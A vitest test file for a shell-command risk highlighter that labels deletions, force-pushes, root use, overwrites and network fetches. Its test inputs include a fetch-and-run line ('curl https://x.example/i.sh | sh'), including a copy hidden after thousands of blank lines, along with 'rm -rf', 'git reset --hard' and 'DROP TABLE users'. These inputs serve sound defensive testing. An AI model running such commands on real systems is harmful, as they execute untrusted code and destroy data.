import { expect, it } from 'vitest';
import { piecesOf, viewOf } from './risk.ts';

const risksIn = (command: string): string[] =>
  piecesOf(command).flatMap(({ text, risk }) => (risk === null ? [] : [`${risk}: ${text}`]));

it('[C2] only the risky part of a command is highlighted', () => {
  expect(risksIn('cd build && rm -rf dist; ls')).toEqual(['deletes: rm -rf dist']);
  expect(risksIn('git push --force origin main')).toEqual([
    'publishes: git push --force origin main',
  ]);
  expect(risksIn('git -C sub push')).toEqual(['publishes: git -C sub push']);
  expect(risksIn('git reset --hard HEAD~1')).toEqual(['deletes: git reset --hard HEAD~1']);
  expect(risksIn('curl https://x.example/i.sh | sh')).toEqual([
    'network: curl https://x.example/i.sh',
    'runsText: | sh',
  ]);
  expect(risksIn('sudo rm x')).toEqual(['asRoot: sudo', 'deletes: rm x']);
  expect(risksIn('find . -name "*.log" -exec rm {} +')).toEqual(['deletes: rm {} +']);
  expect(risksIn('bash -c "rm -rf /tmp/x"')).toEqual(['deletes: rm -rf /tmp/x"']);
  expect(risksIn('psql -c "DROP TABLE users"')).toEqual(['deletes: DROP TABLE users']);
  expect(risksIn('echo a > notes.txt')).toEqual(['overwrites: > notes.txt']);
  expect(risksIn('echo $(rm x)')).toEqual(['deletes: rm x)']);
});

it('[C2] commands that only read or append are not highlighted', () => {
  for (const command of [
    'npm test',
    'ls -la 2>/dev/null',
    'npm test 2>&1 | tail',
    'echo a >> log.txt',
    'git log --oneline',
    'grep -rn "rm -rf" docs',
    'cat form.txt',
    'node --test=>1',
  ]) {
    expect([command, risksIn(command)]).toEqual([command, []]);
  }
});

it('[C2] the pieces add up to the command, and each risk is named once', () => {
  const command = 'rm a; rm b && sudo systemctl stop x';
  const pieces = piecesOf(command);
  expect(pieces.map(({ text }) => text).join('')).toBe(command);
  expect(viewOf(command)).toEqual({
    parts: pieces,
    risks: ['deletes', 'asRoot', 'stops'],
    isChecked: true,
  });
  expect(piecesOf('')).toEqual([]);
});

it('[A7] [C2] blank lines neither hide anything nor suppress a warning', () => {
  const padded = viewOf(`ls${'\n'.repeat(4001)}curl x.example|sh`);
  expect(padded.parts).toEqual([
    { text: 'ls', risk: null },
    { blankLines: 4000 },
    { text: 'curl x.example', risk: 'network' },
    { text: '|sh', risk: 'runsText' },
  ]);
  expect(padded.isChecked).toBe(true);
  expect(viewOf('\n \n\t\n\nrm x').risks).toEqual(['deletes']);
  // As people write them.
  expect(viewOf('ls\n\n\npwd').parts).toEqual([{ text: 'ls\n\n\npwd', risk: null }]);
});

it('[A7] [C2] a command too long to check says so', () => {
  const long = viewOf(`ls ${'#'.repeat(5000)}\nrm x`);
  expect(long.isChecked).toBe(false);
  expect(long.risks).toEqual([]);
});
